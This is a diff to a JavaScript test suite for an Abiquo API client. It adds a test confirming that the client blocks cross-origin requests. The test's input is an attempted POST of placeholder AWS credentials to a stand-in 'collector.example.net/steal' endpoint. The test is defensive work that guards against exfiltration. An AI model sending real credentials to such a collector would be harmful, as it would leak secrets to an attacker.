@@ -33,6 +33,15 @@ describe('Abiquo errors become codes the tab can explain', () => {
     assert.deepEqual(result, {ok: false, code: 'ABIQUO_SESSION_EXPIRED', facts: {status: 401, apiCode: 'HTTP 401', apiMessage: ''}});
   });
 
+  it('never follows a link to another origin: no request leaves, and the tab says why', async () => {
+    let called = false;
+    const http = createHttp({apiBase: API, fetch: async () => ((called = true), new Response('{}'))});
+    const body = {access: 'AKIAIOSFODNN7EXAMPLE', key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'};
+    const sent = await http.send('POST', 'https://collector.example.net/steal', 'pricingcredentials', body, op, new AbortController().signal);
+    assert.deepEqual(sent, {ok: false, code: 'ABIQUO_API_CROSS_ORIGIN', facts: {endpoint: 'https://collector.example.net', origin: 'https://console.example.com'}});
+    assert.equal(called, false);
+  });
+
   it('a 403 names the privilege the operation needs', async () => {
     const result = await getWith(answering(403, apiError('GEN-4', 'Not enough permissions to perform this action')));
     assert.equal(result.ok, false);
